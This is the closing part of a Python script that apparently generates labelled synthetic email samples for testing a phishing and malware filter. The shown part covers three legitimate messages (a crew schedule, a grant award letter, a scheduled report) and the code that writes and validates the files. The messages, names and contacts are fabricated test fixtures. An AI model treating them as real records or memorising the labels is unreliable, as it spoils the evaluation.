def legit_spanish_internal_schedule():
    kind, slug = "legit", "internal-horario-semanal-spanish-ironridge"
    r = S(kind, slug)
    c = CLIENTS["ironridge"]
    t = T(2025, 4, 4, 23, 17, 2)
    rcpt = "lortega@ironridgecontracting.com"
    paras = ["Hola Luis,", "",
             "Te mando el horario de la próxima semana para la cuadrilla. El lunes empezamos a las 6:00 en Folsom (cimbra para las "
             "zapatas), y el miércoles el colado está programado con Delta Ready Mix a las 7:00.", "",
             "También: el correo de \"ADP\" en español que te llegó el miércoles era falso. Los recibos de pago siempre los ves "
             "entrando directamente a la app de ADP, nunca por un enlace en un correo. Si te llega otro, reenvíamelo y bórralo.", "",
             "Cualquier cosa me llamas.", "", "Saludos,", "Maria"]
    sig = gsig("Maria Delgado", "Office Manager | Ironridge Contracting", "8840 Folsom Blvd, Sacramento, CA 95826", "(916) 381-2275")
    alt_part = gmail_alt(r, paras, sig)
    pdf = text_pdf(["IRONRIDGE CONTRACTING - HORARIO SEMANA 04/07 - 04/11/2025", "",
                    "Lunes 7     6:00  Folsom MOB - cimbra zapatas (Luis, Beto, Ramon, Chuy)",
                    "Martes 8    6:00  Folsom MOB - acero de refuerzo / inspeccion 13:00",
                    "Miercoles 9 7:00  Folsom MOB - colado zapatas (Delta Ready Mix, bomba 7:00)",
                    "Jueves 10   6:30  Elk Grove tilt-up - curado y limpieza", "Viernes 11  6:30  Elk Grove tilt-up - descimbrado", "",
                    "Junta de seguridad: lunes 5:45 en el trailer"],
                   "Horario semana 04/07", "Google Docs Renderer", date="D:20250404161502-07'00'")
    body = Multi("mixed", gboundary(r, "mx"), [alt_part, attachment("application/pdf", "Horario semana 04-07.pdf", pdf)])
    data = send_gmail(r, c, rcpt, t, "mdelgado@ironridgecontracting.com", "Maria Delgado <mdelgado@ironridgecontracting.com>",
                      "Luis Ortega <lortega@ironridgecontracting.com>", hdr_encode("Horario de la próxima semana - Folsom"), body,
                      "America/Los_Angeles", policy="p=NONE sp=NONE dis=NONE",
                      cc="Kyle Brandt <kbrandt@ironridgecontracting.com>")
    return done("clean", kind, slug,
                "Internal Spanish-language Workspace mail from the office manager to the crew foreman with next week's schedule "
                "PDF and a warning about the fake Spanish ADP email; same-domain authentication passes.",
                data)


@sample
def legit_grant_award():
    kind, slug = "legit", "grant-award-letter-community-trust-opentable"
    r = S(kind, slug)
    c = CLIENTS["opentable"]
    t = T(2025, 6, 18, 13, 44, 9)
    rcpt = "rachel.booth@opentablesheffield.org.uk"
    paras = ["Dear Rachel,", "",
             "I'm delighted to let you know that the Don Valley Community Trust grants panel approved Open Table Sheffield's "
             "application (ref. DVCT-2025-0218) at its meeting on 16 June. The panel awarded <b>&pound;12,500</b> towards your "
             "Saturday community kitchen for 2025-26.", "",
             "The formal award letter and terms are attached. Please accept the award through our grants portal, where you'll also "
             "find the reporting template: "
             '<a href="https://donvalleytrust.flexigrant.com/">https://donvalleytrust.flexigrant.com/</a>. '
             "Payment will be made by BACS within 14 days of acceptance to the bank account already verified on your application "
             "&#8211; we will never ask you to change bank details or pay any fee by email. If anything looks odd, please ring me on "
             "0114 272 6190.", "",
             "Congratulations, and thank you for the work you do.", "", "Best wishes,", "",
             "Joanna Whitworth", "Grants Manager | Don Valley Community Trust", "Registered charity 1092418"]
    alt_part = outlook_msg(r, paras, lang="EN-GB")
    pdf = text_pdf(["DON VALLEY COMMUNITY TRUST", "GRANT AWARD LETTER", "", "18 June 2025", "",
                    "Rachel Booth, Chief Executive, Open Table Sheffield", "Application ref: DVCT-2025-0218", "",
                    "Amount awarded: GBP 12,500 (restricted - Saturday community kitchen 2025-26)",
                    "Payment: single BACS payment to the verified account on your application", "",
                    "Conditions: acceptance via the grants portal within 28 days; six-month and final reports;",
                    "acknowledgement of the Trust in publicity.", "", "Joanna Whitworth, Grants Manager"],
                   "DVCT award letter 2025-0218", "Microsoft Word for Microsoft 365", date="D:20250618131200+01'00'")
    body = Multi("mixed", oboundary(r, "mix", "004"), [alt_part, attachment("application/pdf", "DVCT Award Letter - Open Table Sheffield.pdf", pdf)])
    data = send_exo(r, c, rcpt, t, "joanna.whitworth@donvalleytrust.org.uk", "Joanna Whitworth <joanna.whitworth@donvalleytrust.org.uk>",
                    "Rachel Booth <rachel.booth@opentablesheffield.org.uk>", "Grant award - Open Table Sheffield (DVCT-2025-0218)", body,
                    "Europe/London", region="gbr", has_attach=True, lang="en-GB", policy="p=QUARANTINE sp=QUARANTINE dis=NONE",
                    ctry="GB")
    return done("clean", kind, slug,
                "A real grant award from a local community trust's Microsoft 365 mailbox (DMARC pass) with the award letter PDF, "
                "acceptance via its Flexi-Grant portal and an explicit no-fees, no-bank-change statement.",
                data)


@sample
def legit_looker_scheduled_report():
    kind, slug = "bulk", "looker-studio-scheduled-report-tallgrass"
    r = S(kind, slug)
    c = CLIENTS["tallgrass"]
    t = T(2025, 3, 10, 13, 0, 31)
    rcpt = "cnolan@tallgrassdigital.com"
    rep = r.guid("rep")
    link = f"https://lookerstudio.google.com/reporting/{rep}/page/p_{r.alnum('pg', 10)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;padding:0;background:#ffffff">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="560" cellpadding="0" cellspacing="0" style="font-family:Roboto,Arial,sans-serif;color:#202124">
<tr><td style="padding:8px 0 16px 0"><img src="https://www.gstatic.com/analytics-lego/svg/ic_looker_studio.svg" width="32" height="32" alt="Looker Studio"></td></tr>
<tr><td style="font-size:20px;padding-bottom:8px">Hill Country CU &#8211; Paid Social Weekly</td></tr>
<tr><td style="font-size:14px;color:#5f6368;padding-bottom:16px">Scheduled delivery from chris.nolan.tallgrass@gmail.com &middot; Every Monday at 8:00 AM</td></tr>
<tr><td style="font-size:14px;padding-bottom:20px">The PDF of this report is attached. <a href="{link}" style="color:#1a73e8">View the report in Looker Studio</a> for live data.</td></tr>
<tr><td style="font-size:12px;color:#5f6368;border-top:1px solid #e8eaed;padding-top:16px">You're receiving this email because chris.nolan.tallgrass@gmail.com scheduled delivery of this report to you. <a href="https://lookerstudio.google.com/u/0/reporting/{rep}/schedule/unsubscribe" style="color:#5f6368">Unsubscribe</a><br>Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</td></tr>
</table></td></tr></table></body></html>
"""
    pdf = text_pdf(["Hill Country CU - Paid Social Weekly", "Mar 3, 2025 - Mar 9, 2025", "",
                    "Spend: $4,812.40    Impressions: 612,904    Clicks: 7,311    CTR: 1.19%",
                    "Conversions (membership applications started): 214    CPA: $22.49", "",
                    "Meta: $3,120.10 / 161 conv.    TikTok: $1,692.30 / 53 conv."],
                   "Hill Country CU - Paid Social Weekly", "Looker Studio", date="D:20250310130012Z")
    body = Multi("mixed", gboundary(r, "mx"), [Multi("alternative", gboundary(r, "al"), [text(strip_tags(html)), text(html, "html")]),
                                               attachment("application/pdf", "Hill Country CU - Paid Social Weekly.pdf", pdf)])
    headers = [f"Message-ID: <{r.b64url('mid', 16)}@lookerstudio.google.com>", f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               "Subject: Hill Country CU - Paid Social Weekly (Mon, Mar 10, 2025)", "From: Looker Studio <looker-studio-noreply@google.com>",
               f"To: {rcpt}"]
    data = google_notice(r, c, rcpt, t, "scoutcamp.bounces.google.com", headers, body, verdict=dict(bcl=1))
    return done("bulk", kind, slug,
                "Scheduled Looker Studio report the account manager set up himself, delivered by Google (DMARC reject passes) "
                "with the PDF attached and a lookerstudio.google.com link; same sender and template family as the grant lure.",
                data)



# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind):
# legitimate notices between clean and bulk, and attacks that only link to a download (no dropper attached)
# under phishing, the folder for lures; malware/ keeps the messages that carry one.
REFILED = {
    "b14-bulk-cmecf-notice-of-electronic-filing-whitcombe": "clean",
    "b14-bulk-docusign-engagement-letter-client-whitcombe": "clean",
    "b14-bulk-paypal-invoice-freelance-photographer-foxglove": "clean",
}


def main():
    counts = {}
    manifest = []
    for fn in SAMPLES:
        s = fn()
        s = dict(s, category=REFILED.get(s["name"], s["category"]))
        path = MAIL / s["category"] / f"{s['name']}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(s["data"])
        manifest.append(f"samples/mail/{s['category']}/{s['name']}.eml | {s['category']} | {s['desc']}")
        counts[s["category"]] = counts.get(s["category"], 0) + 1
        check(path, s)
    MANIFEST.write_text("\n".join(manifest) + "\n")
    attacks = counts.get("phishing", 0) + counts.get("malware", 0)
    legit = counts.get("clean", 0) + counts.get("bulk", 0)
    print(f"wrote {len(manifest)} samples: {counts} (attacks {attacks}, legitimate {legit})")


def check(path: Path, s: dict):
    msg = email.message_from_bytes(path.read_bytes(), policy=policy.default)
    problems = list(msg.defects)
    for part in msg.walk():
        problems += part.defects
        if not part.is_multipart():
            if part.get_content_maintype() == "text":
                part.get_content()
            else:
                part.get_payload(decode=True)
    str(msg["subject"])
    for name in ("from", "to", "cc", "reply-to", "sender"):
        if msg[name] is not None:
            str(msg[name])
            problems += list(getattr(msg[name], "defects", []))
    for name in ("date", "message-id", "return-path"):
        if msg[name] is None and not (name == "return-path" and msg["delivered-to"] is None and msg["x-ms-exchange-organization-authas"] == "Internal"):
            problems.append(f"missing {name}")
    if problems:
        raise SystemExit(f"{path}: {problems}")


if __name__ == "__main__":
    main()
